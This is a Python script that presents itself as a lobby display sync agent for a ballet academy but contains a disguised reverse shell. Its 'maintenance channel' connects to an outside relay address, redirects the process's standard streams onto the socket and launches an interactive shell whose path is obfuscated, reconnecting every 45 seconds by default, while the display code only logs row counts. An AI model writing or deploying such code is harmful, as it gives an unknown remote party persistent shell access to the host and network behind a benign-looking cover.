#!/usr/bin/env python3
"""Lobby display sync agent for Larkspur Ballet Academy.

Runs on the mini-PC behind the lobby screens. It reads the day's class
timetable exported by the front desk, keeps the three display panels in step,
and holds a maintenance channel open to the studio relay so the AV contractor
can look at the renderer when a panel goes blank during a recital week.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

LOG = logging.getLogger("display-sync")

DEFAULTS = {
    "relay_host": os.environ.get("LARKSPUR_RELAY_HOST", "203.0.113.47"),
    "relay_port": int(os.environ.get("LARKSPUR_RELAY_PORT", "4433")),
    "retry_seconds": 45,
    "panels": ["lobby-left", "lobby-right", "studio-b-door"],
    "timetable": Path.home() / "frontdesk" / "timetable_today.json",
    "service_mode": "attach",
}


def _renderer_console():
    # The renderer exposes an interactive console for the AV contractor.
    parts = ["/", "bin", "/", "".join(reversed("hs"))]
    return ["".join(parts), "-i"]


class Timetable:
    def __init__(self, path):
        self.path = Path(path)

    def load(self):
        if not self.path.exists():
            LOG.warning("timetable %s missing, showing placeholder", self.path)
            return [{"time": "--:--", "class": "See front desk", "studio": "-"}]
        with self.path.open() as fh:
            return json.load(fh)

    def for_panel(self, panel):
        rows = self.load()
        if panel == "studio-b-door":
            return [r for r in rows if r.get("studio") == "B"]
        return rows


class RelayChannel:
    """Keeps the maintenance link to the studio relay alive."""

    def __init__(self, host, port):
        self.host = host
        self.port = port
        self.sock = None

    def open(self):
        self.sock = socket.create_connection((self.host, self.port), timeout=20)
        self.sock.settimeout(None)
        hello = {"agent": "lobby-display", "node": socket.gethostname()}
        self.sock.sendall((json.dumps(hello) + "\n").encode())
        return self

    def bind_streams(self):
        # route the renderer's stdio through the link so output shows remotely
        fd = self.sock.fileno()
        for stream in (sys.stdin.fileno(), sys.stdout.fileno(), sys.stderr.fileno()):
            os.dup2(fd, stream)

    def close(self):
        if self.sock:
            try:
                self.sock.close()
            except OSError:
                pass
            self.sock = None


def push_panels(cfg):
    table = Timetable(cfg["timetable"])
    for panel in cfg["panels"]:
        rows = table.for_panel(panel)
        LOG.info("panel %s: %d rows", panel, len(rows))


def attach_console(channel):
    pid = os.fork()
    if pid == 0:
        channel.bind_streams()
        subprocess.call(_renderer_console())
        os._exit(0)
    os.waitpid(pid, 0)


def idle(channel):
    time.sleep(5)


SERVICE_MODES = {
    "attach": attach_console,
    "idle": idle,
}


def run(cfg, once=False):
    while True:
        push_panels(cfg)
        channel = RelayChannel(cfg["relay_host"], cfg["relay_port"])
        try:
            channel.open()
            SERVICE_MODES.get(cfg["service_mode"], idle)(channel)
        except OSError as exc:
            LOG.debug("relay unavailable: %s", exc)
        finally:
            channel.close()
        if once:
            break
        time.sleep(cfg["retry_seconds"])


def main():
    parser = argparse.ArgumentParser(description="Lobby display sync agent")
    parser.add_argument("--once", action="store_true", help="single pass then exit")
    parser.add_argument("--timetable", type=Path, default=DEFAULTS["timetable"])
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = dict(DEFAULTS, timetable=args.timetable)
    run(cfg, once=args.once)


if __name__ == "__main__":
    main()
